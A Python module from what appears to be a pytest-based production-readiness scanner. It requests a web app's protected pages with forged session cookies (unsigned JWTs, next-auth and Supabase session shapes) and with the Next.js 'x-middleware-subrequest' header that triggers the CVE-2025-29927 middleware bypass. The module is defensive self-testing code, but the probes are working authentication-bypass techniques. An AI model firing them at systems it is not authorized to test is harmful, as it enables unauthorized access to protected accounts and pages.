"""Ask for a protected page as a stranger who forges what a weak guard trusts.

Two GETs per protected page, each judged by :mod:`pytest_prodready.checks.pages` against the
anonymous answer:

- one carrying a forged session cookie under every candidate name at once: the configured
  ``flows.login.session_cookie``, the names of the common auth libraries, and Supabase's
  ``sb-<ref>-auth-token``. A correct guard checks a signature or a store and answers as it
  answers a stranger; a guard that only checks that the cookie exists lets it in. One request
  for all names: the question is whether *any* of them opens the page, and the evidence
  names them all;
- one carrying ``x-middleware-subrequest``, the internal header that made Next.js skip its
  middleware (CVE-2025-29927). Next.js splits the value on ``:`` and compares each part to the
  middleware's name: before 13.2 any part equal to it skips the middleware, from 13.2 five
  equal parts do (the recursion guard). One value holding every name five times therefore
  covers every affected version in one request.

The forged values look real (a JWT, a JWE, a Supabase session) and are fresh random bytes, so
they are worth nothing anywhere. They travel only in the request: :class:`Attempt` holds the
answer and the cookie *names*, and no evidence quotes a value.
"""

from __future__ import annotations

import base64
import json
import re
import secrets
import time
import uuid
from collections.abc import Iterable
from dataclasses import dataclass

import httpx

from pytest_prodready.config import Environment
from pytest_prodready.http import ResponseCache
from pytest_prodready.probes.assets import discover

__all__ = [
    "COMMON_SESSION_COOKIES",
    "SUBREQUEST_HEADER",
    "Attempt",
    "find_supabase_refs",
    "forged_cookie_values",
    "forged_session",
    "middleware_subrequest",
    "public_texts",
    "session_cookie_names",
    "subrequest_value",
    "supabase_refs",
]

# The session cookies of next-auth (v4) and Auth.js (v5, its successor), on HTTP and HTTPS,
# and the two names hand-written guards use most.
COMMON_SESSION_COOKIES = (
    "next-auth.session-token",
    "__Secure-next-auth.session-token",
    "authjs.session-token",
    "__Secure-authjs.session-token",
    "auth-token",
    "session",
)
# @supabase/ssr names its cookie after the project: sb-<ref>-auth-token, <ref> being the first
# label of the Supabase URL's host. When nothing the site serves names the project, this
# stand-in still opens guards that match the shape (sb-*-auth-token); a guard that reads the
# exact name is then out of reach, and says nothing.
SUPABASE_COOKIE = "sb-{ref}-auth-token"
GENERIC_SUPABASE_REF = "project"
MAX_SUPABASE_REFS = 3
_SUPABASE_URL = re.compile(r"https?://([a-z0-9][a-z0-9-]{2,62})\.supabase\.(?:co|in)\b", re.I)

SUBREQUEST_HEADER = "x-middleware-subrequest"
# Middleware names across Next.js versions: root middleware file (12.2+), in src/ (12.2+), and
# the 12.0-12.1 pages/_middleware (nested ones are named after their folder, below).
_MIDDLEWARE_NAMES = ("middleware", "src/middleware", "pages/_middleware")
# Next.js >= 13.2 skips its middleware once its name appears this many times.
_RECURSION_DEPTH = 5
_MAX_NESTED = 3  # pages/<a>/_middleware, pages/<a>/<b>/_middleware, ... for the first segments


@dataclass(frozen=True)
class Attempt:
    """A forged request's answer and what it carried, by name (never a value)."""

    response: httpx.Response
    carried: str


def supabase_refs(texts: Iterable[str]) -> tuple[str, ...]:
    """The Supabase project refs named by ``https://<ref>.supabase.co`` URLs in ``texts``,
    lower-cased, first seen first, at most :data:`MAX_SUPABASE_REFS`."""
    found: list[str] = []
    for text in texts:
        for match in _SUPABASE_URL.finditer(text):
            ref = match.group(1).lower()
            if ref not in found:
                found.append(ref)
                if len(found) == MAX_SUPABASE_REFS:
                    return tuple(found)
    return tuple(found)


def find_supabase_refs(fetch: ResponseCache, env: Environment) -> tuple[str, ...]:
    """The refs the env's URLs, its pages and the same-origin scripts they load reveal.

    A Supabase app ships its project URL to every browser (``NEXT_PUBLIC_SUPABASE_URL``).
    """
    return supabase_refs(public_texts(fetch, env))


def public_texts(fetch: ResponseCache, env: Environment) -> list[str]:
    """The env's URLs, its pages and the same-origin scripts they load: what every browser
    gets. Pages and scripts come from the session's response cache, so the bundle suite has
    usually paid for them already. A page or script that cannot be read reveals nothing: its
    own test reports it."""
    texts = [url for url in (env.base_url, env.api_url) if url]
    for path in env.page_paths:
        try:
            page = fetch(path)
            scripts = discover(fetch, (path,), kinds=("script",))
        except (httpx.RequestError, httpx.InvalidURL):
            continue
        texts.append(page.text)
        for url in scripts:
            try:
                script = fetch(url)
            except (httpx.RequestError, httpx.InvalidURL):
                continue
            if script.status_code == 200:
                texts.append(script.text)
    return texts


def session_cookie_names(configured: str | None, refs: Iterable[str] = ()) -> tuple[str, ...]:
    """The cookie names a forged session is sent under: the configured one first, then the
    common ones, then Supabase's (one per ref, or the generic stand-in); each once."""
    supabase = [SUPABASE_COOKIE.format(ref=ref) for ref in refs]
    names = [configured, *COMMON_SESSION_COOKIES]
    names += supabase or [SUPABASE_COOKIE.format(ref=GENERIC_SUPABASE_REF)]
    return tuple(dict.fromkeys(name for name in names if name))


def _b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode("ascii").rstrip("=")


def _json(data: object) -> bytes:
    return json.dumps(data, separators=(",", ":")).encode()


def _forged_jwt(subject: str, now: int) -> str:
    """An HS256 JWT that is current and well formed, with a random (so wrong) signature: what
    a guard that decodes without verifying accepts."""
    header = {"alg": "HS256", "typ": "JWT"}
    claims = {
        "sub": subject,
        "aud": "authenticated",
        "role": "authenticated",
        "iat": now,
        "exp": now + 3600,
    }
    return ".".join((_b64url(_json(header)), _b64url(_json(claims)), _b64url(_random(32))))


def _forged_jwe() -> str:
    """The shape of next-auth's encrypted session token (dir + A256GCM), random inside."""
    header = _b64url(_json({"alg": "dir", "enc": "A256GCM"}))
    return f"{header}..{_b64url(_random(12))}.{_b64url(_random(96))}.{_b64url(_random(16))}"


def _forged_supabase(subject: str, now: int) -> str:
    """A Supabase SSR session cookie (``base64-`` + the session JSON) that is unexpired, so
    ``getSession()`` hands it out without asking Supabase; ``getUser()`` refuses it."""
    session = {
        "access_token": _forged_jwt(subject, now),
        "token_type": "bearer",
        "expires_in": 3600,
        "expires_at": now + 3600,
        "refresh_token": _b64url(_random(9)),
        "user": {
            "id": subject,
            "aud": "authenticated",
            "role": "authenticated",
            "email": "forged-session@prodready.invalid",
        },
    }
    return "base64-" + _b64url(_json(session))


def _random(size: int) -> bytes:
    return secrets.token_bytes(size)


def forged_cookie_values(names: Iterable[str], *, now: float | None = None) -> dict[str, str]:
    """A fresh forged value for each name, shaped like what that name usually holds."""
    stamp = int(time.time() if now is None else now)
    values = {}
    for name in names:
        subject = str(uuid.uuid4())
        if "next-auth" in name or "authjs" in name:
            values[name] = _forged_jwe()
        elif name.startswith("sb-") and name.endswith("-auth-token"):
            values[name] = _forged_supabase(subject, stamp)
        else:
            values[name] = _forged_jwt(subject, stamp)
    return values


def subrequest_value(path: str) -> str:
    """Every middleware name, :data:`_RECURSION_DEPTH` times each, ``:``-separated; with the
    nested ``pages/<dir>/_middleware`` names of ``path``'s first segments (Next.js 12.0-12.1)."""
    segments = [s for s in path.split("?", 1)[0].split("/") if s][:_MAX_NESTED]
    nested = [f"pages/{'/'.join(segments[:i])}/_middleware" for i in range(1, len(segments) + 1)]
    names = [*_MIDDLEWARE_NAMES, *nested]
    return ":".join(name for name in names for _ in range(_RECURSION_DEPTH))


def forged_session(client: httpx.Client, path: str, names: tuple[str, ...]) -> Attempt:
    """One GET of ``path`` carrying a forged session under each of ``names``."""
    cookie = "; ".join(f"{name}={value}" for name, value in forged_cookie_values(names).items())
    response = client.get(path, headers={"Cookie": cookie})
    return Attempt(response, f"with forged session cookies {', '.join(names)}")


def middleware_subrequest(client: httpx.Client, path: str) -> Attempt:
    """One GET of ``path`` claiming to be a Next.js middleware subrequest."""
    response = client.get(path, headers={SUBREQUEST_HEADER: subrequest_value(path)})
    carried = (
        f"with {SUBREQUEST_HEADER}: {', '.join(_MIDDLEWARE_NAMES)} "
        f"(each {_RECURSION_DEPTH} times, CVE-2025-29927)"
    )
    return Attempt(response, carried)
